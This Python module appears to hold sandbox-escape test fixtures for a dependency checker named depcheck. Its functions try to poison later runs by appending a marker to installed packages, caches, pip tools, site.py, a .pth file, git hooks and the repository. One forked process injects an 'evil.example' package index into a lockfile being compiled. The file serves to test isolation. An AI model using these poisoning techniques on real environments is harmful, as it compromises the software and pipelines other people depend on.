"""Poisoning what others use after it: installed packages, caches, tools, the repository, homes."""

import contextlib
import glob
import importlib.util
import os
import pathlib
import re
import site
import sys

_RUN = re.compile(r"(/[^/]+)+?/depcheck-[^/]+")
EVIL = "\nraise SystemExit('zz-poisoned')\n"


def _write_any(paths):
    """The files of `paths` that took a line; raises the last refusal where none did."""
    written, refused = [], None
    for path in paths:
        try:
            with open(path, "a") as file:
                file.write(EVIL)
            written.append(path)
        except OSError as error:
            refused = error
    if not written and refused:
        raise refused
    return written[:3]


def _below(folder, pattern, most=400):
    return [
        str(path)
        for path, _ in zip((p for p in pathlib.Path(folder).rglob(pattern) if p.is_file()), range(most), strict=False)
    ]


def _scratches():
    """The run's own folder: it cannot be listed, but its name stands in our own paths."""
    here = [
        *sys.path,
        os.getcwd(),
        os.environ.get("HOME", ""),
        os.environ.get("TMPDIR", ""),
        os.environ.get("UV_CACHE_DIR", ""),
        os.environ.get("PIP_CACHE_DIR", ""),
    ]
    return sorted({match[0] for path in here if (match := _RUN.match(path))})


def _environments():
    """The environments of this run: our own by our paths, others where the run's folder can be listed."""
    here = (*sys.path, sys.prefix, os.getcwd())
    ours = {match[0] for path in here if (match := re.match(rf"{_RUN.pattern}/env-[^/]+", path))}
    return sorted(ours.union(*(glob.glob(f"{scratch}/env-*") for scratch in _scratches())))


def other_packages(stage):
    """Changes the files of a package that the baseline has too: then the baseline would fail, and it would be blamed."""
    return _write_any(
        path
        for folder in {*site.getsitepackages(), *sys.path}
        if "site-packages" in folder and "/depcheck-" in folder
        for path in glob.glob(f"{folder}/victim/*.py") + glob.glob(f"{folder}/pytest/*.py")
    )


def other_environments(stage):
    """Changes the installed files of every environment of this run, found through the run's folder."""
    return _write_any(
        path for folder in _environments() for path in glob.glob(f"{folder}/venv/lib/*/site-packages/victim/*.py")
    )


def planted_bytecode(stage):
    """Plants compiled code for another package, which Python takes for current."""
    written = []
    for folder in sys.path:
        source = f"{folder}/victim/__init__.py"
        if "/depcheck-" in folder and os.path.exists(source):
            for path in (
                f"{folder}/victim/__pycache__/__init__.cpython-313.pyc",
                importlib.util.cache_from_source(source),
            ):
                with contextlib.suppress(OSError):
                    os.makedirs(os.path.dirname(path), exist_ok=True)
                    pathlib.Path(path + ".zz").write_bytes(b"zz")
                    os.replace(path + ".zz", path)
                    written.append(path)
    # A command has a folder of its own, which ends with it; whether another run sees it is judged by the verdict.
    return [path for path in written if stage != "test" or "/bytecode-of-run-" not in path]


def cache_of_uv(stage):
    """Changes files in the cache from which uv fills environments by hard links."""
    folders = [os.environ.get("UV_CACHE_DIR", ""), *(f"{scratch}/uv-cache" for scratch in _scratches())]
    return _write_any(path for folder in folders if folder for path in _below(folder, "*.py") if "/victim/" in path)


def cache_of_the_compiler(stage):
    """Puts its files into the caches of compilers, for the compile of the baseline or another night's."""
    return _write_any(
        f"{cache}/zz"
        for cache in [
            f"{os.environ.get('DEPCHECK_CACHE', '/github/home/.cache/depcheck')}/index",
            *(f"{scratch}/compile" for scratch in _scratches()),
        ]
    )


def tools(stage):
    """Changes pip-tools and pip in the environment that the next compile uses."""
    return _write_any(
        [path for home in glob.glob("/var/cache/depcheck/tools/*") for path in _below(home, "__main__.py")]
        or ["/var/cache/depcheck/tools/zz"]
    )


def our_own_code(stage):
    """Changes depcheck, its interpreter, and what Python runs at every start."""
    return _write_any(
        [
            "/opt/depcheck/entrypoint.py",
            *_below("/opt/depcheck/lib", "sandbox.py"),
            *glob.glob("/usr/local/lib/python3*/site.py"),
            "/usr/local/lib/python3.13/site-packages/zz.pth",
        ]
    )


def index_cache(stage):
    """Changes kept pages and files of the local index."""
    folder = "/github/home/.cache/depcheck/index"
    return _write_any(_below(folder, "*") or [f"{folder}/zz"])


def the_repository(stage):
    """Changes the repository itself: its lockfile, its code, a hook that git would run."""
    return _write_any(
        [
            "/github/workspace/requirements.txt",
            "/github/workspace/app.py",
            "/github/workspace/.git/hooks/pre-commit",
            "/github/workspace/.git/config",
            "/github/workspace/zz",
        ]
    )


def the_report(stage):
    """Writes the report, the proposal and the logs of checks itself."""
    folder = "/github/workspace/depcheck-report"
    return _write_any(
        [
            f"{folder}/report.json",
            f"{folder}/proposal/requirements.txt",
            f"{folder}/logs/01-import.txt",
            "/github/workspace/depcheck-report",
        ]
    )


def the_next_home(stage):
    """Leaves settings in its home, and looks for those of another stage."""
    home = os.path.expanduser("~")
    found = [path for path in glob.glob(f"{home}/.zz-*") if not path.endswith(stage)]
    with contextlib.suppress(OSError):
        pathlib.Path(home, f".zz-{stage}").write_text("zz")
    return found


def the_next_copy(stage):
    """Changes the program's tests in its copy, and looks whether another stage's change is still there."""
    path = pathlib.Path("app.py")
    if not path.exists():
        return None
    text = path.read_text()
    if "zz-changed" in text and f"zz-changed {stage}" not in text:
        return "the copy of an earlier check"
    with contextlib.suppress(OSError):
        path.write_text(text + f"# zz-changed {stage}\n")


def lockfile_while_it_is_compiled(stage):
    """Waits for the compiler to write the lockfile and adds a source of packages to it; judged by what is proposed."""
    if stage == "compile" and os.fork() == 0:
        os.setsid()
        folders = {
            os.path.realpath(path.rpartition("/")[0])
            for path in glob.glob("/proc/[0-9]*/cwd")
            for path in [f"{os.path.realpath(path)}/x"]
            if "/copy-" in path
        }
        for _ in range(200_000):
            for folder in folders:
                with contextlib.suppress(OSError):
                    path = pathlib.Path(folder, "requirements.txt")
                    text = path.read_text()
                    if "hostile==2.0" in text and "evil.example" not in text:
                        path.write_text("--extra-index-url https://evil.example/simple\n" + text)
        os._exit(0)


def replaced_folders(stage):
    """Puts links in the place of folders that the checker is going to fill or empty."""
    swapped, refused = [], None
    for folder in _environments():
        for name in ("work", "results", "home", "template", "requirements.txt", "project", "venv", "venv/pyvenv.cfg"):
            try:
                os.rename(f"{folder}/{name}", f"{folder}/{name}.zz")
                os.rename(f"{folder}/{name}.zz", f"{folder}/{name}")
                swapped.append(f"{folder}/{name}")
            except OSError as error:
                refused = error
    if not swapped and refused:
        raise refused
    return swapped
